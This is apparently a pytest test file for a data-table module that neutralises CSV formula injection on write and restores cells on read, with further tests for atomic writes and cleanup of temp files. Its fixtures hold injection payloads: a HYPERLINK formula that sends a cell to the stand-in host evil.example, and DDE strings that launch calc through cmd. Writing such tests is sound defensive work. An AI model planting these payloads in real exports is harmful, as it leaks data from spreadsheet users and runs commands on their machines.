"""tables.py: CSV formula injection guarded on write and undone on read; atomic writes of one or a set."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from borderdata.tables import (
    FORMULA_START,
    GUARD,
    WriteError,
    neutralise_cell,
    read_table,
    remove_stale_temps,
    restore_cell,
    write_table,
    write_tables,
)

# What a spreadsheet would run, and what it must get as text instead.
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "-",
    "+",
    "-5 yards",
    "-inf",
    "+1 613 555 0199",
]
# Plain numbers: a spreadsheet reads them as numbers, nothing runs; left as they are.
NUMBERS = ["-5", "+5", "-0.45", "1,000", "-1,000", "1e6", "-2.5E-3", ".5", "-.5"]
# Text that only looks like the guard: must come back exactly.
LOOKALIKES = ["'=1", "''=1", "'-5", "'hello", "'", "''", "it's -5", "a=b", "O'Neil"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_dangerous_cells_are_neutralised(cell):
    guarded = neutralise_cell(cell)
    assert guarded == GUARD + cell
    assert restore_cell(guarded) == cell


@pytest.mark.parametrize("cell", NUMBERS)
def test_numbers_are_untouched(cell):
    assert neutralise_cell(cell) == cell
    assert restore_cell(cell) == cell


@pytest.mark.parametrize("cell", LOOKALIKES)
def test_lookalikes_round_trip(cell):
    assert restore_cell(neutralise_cell(cell)) == cell


@pytest.mark.parametrize(("cell", "written"), [("\r=1+1", "'\n=1+1"), ("a\rb", "a\nb"), ("a\r\nb", "a\nb")])
def test_carriage_returns_are_written_as_line_feeds(cell, written):
    assert neutralise_cell(cell) == written


def test_a_carriage_return_cannot_forge_a_row(tmp_path):
    title = 'Border news\r=HYPERLINK("http://evil.example"),forged,row'
    out = write_table(pd.DataFrame({"title": [title], "outlet": ["x"]}), tmp_path / "documents.csv")
    rows = _raw_cells(out)
    assert len(rows) == 1 and rows[0]["outlet"] == "x"
    assert read_table(out)["title"].tolist() == [title.replace("\r", "\n")]


def test_non_strings_pass_through():
    for cell in (None, -5, -5.5, math.nan, True):
        assert neutralise_cell(cell) is cell
        assert restore_cell(cell) is cell


def _frame() -> pd.DataFrame:
    text = DANGEROUS + NUMBERS + LOOKALIKES
    return pd.DataFrame({
        "surface": text,
        "subject": list(reversed(text)),
        "value": [-float(i) for i in range(len(text))],
    })  # fmt: skip


def _raw_cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_csv_on_disk_never_starts_a_text_cell_with_a_formula(tmp_path):
    out = write_table(_frame(), tmp_path / "facts.csv")
    for row in _raw_cells(out):
        for column in ("surface", "subject"):
            cell = row[column]
            assert not cell.startswith(FORMULA_START) or cell in NUMBERS, cell
    values = [row["value"] for row in _raw_cells(out)]
    assert values[1] == "-1.0"  # a numeric column is written as numbers, never guarded


def test_read_table_restores_what_was_written(tmp_path):
    frame = _frame()
    back = read_table(write_table(frame, tmp_path / "t.csv"))
    assert back["surface"].tolist() == frame["surface"].tolist()
    assert back["subject"].tolist() == frame["subject"].tolist()
    assert back["value"].astype(float).tolist() == frame["value"].tolist()


def test_parquet_keeps_cells_as_they_are(tmp_path):
    pytest.importorskip("pyarrow")
    frame = _frame()
    back = read_table(write_table(frame, tmp_path / "t.parquet"))
    assert back["surface"].tolist() == frame["surface"].tolist()


def test_unsupported_format_is_refused_and_nothing_written(tmp_path):
    with pytest.raises(WriteError, match=r"t\.xlsx: unsupported table format"):
        write_table(_frame(), tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_write_tables_is_all_or_nothing(tmp_path, monkeypatch):
    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
    write_tables({a: pd.DataFrame({"x": [1]}), b: pd.DataFrame({"y": [1]})})
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    original = pd.DataFrame.to_csv

    def fail_on_b(self, path=None, *args, **kwargs):
        if path is not None and Path(path).name.startswith(".b.csv."):
            raise OSError("disk full (injected)")
        return original(self, path, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_csv", fail_on_b)
    with pytest.raises(OSError, match="injected"):
        write_tables({a: pd.DataFrame({"x": [2]}), b: pd.DataFrame({"y": [2]})})
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


def test_remove_stale_temps_only_touches_temp_files_of_the_named_tables(tmp_path):
    keep = [tmp_path / "facts.csv", tmp_path / ".other.csv.abc.tmp", tmp_path / "facts.csv.tmp"]
    stale = [tmp_path / ".facts.csv.abc123.tmp", tmp_path / ".claims.csv.x.tmp"]
    for path in keep + stale:
        path.write_text("x")
    assert remove_stale_temps(tmp_path, ["facts.csv", "claims.csv"]) == sorted(stale)
    assert sorted(tmp_path.iterdir()) == sorted(keep)


# --- properties (also run long by `make fuzz`) ---------------------------------------------------

CELL_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r"), max_size=40
) | st.sampled_from(DANGEROUS + NUMBERS + LOOKALIKES).flatmap(
    lambda seed: st.text(max_size=5).map(lambda tail: seed + tail.replace("\r", ""))
)


@given(CELL_TEXT)
def test_property_neutralise_round_trips_and_never_leaves_a_formula(cell):
    guarded = neutralise_cell(cell)
    assert restore_cell(guarded) == cell
    if guarded.startswith(FORMULA_START):  # only a plain number may still start with a sign
        assert guarded == cell and cell.lstrip("+-")[:1] in "0123456789."


@given(st.lists(CELL_TEXT | st.text(max_size=20), min_size=1, max_size=8))
def test_property_csv_round_trip(cells):
    """Any text survives write_table/read_table (CR read back as LF), one row per cell."""
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        # Two columns, as every table here has: a one-column row of " " would read as a blank line.
        frame = pd.DataFrame({"doc_id": [f"d{i}" for i in range(len(cells))], "text": cells})
        path = write_table(frame, Path(folder) / "t.csv")
        expected = [c.replace("\r\n", "\n").replace("\r", "\n") for c in cells]
        assert read_table(path)["text"].tolist() == expected
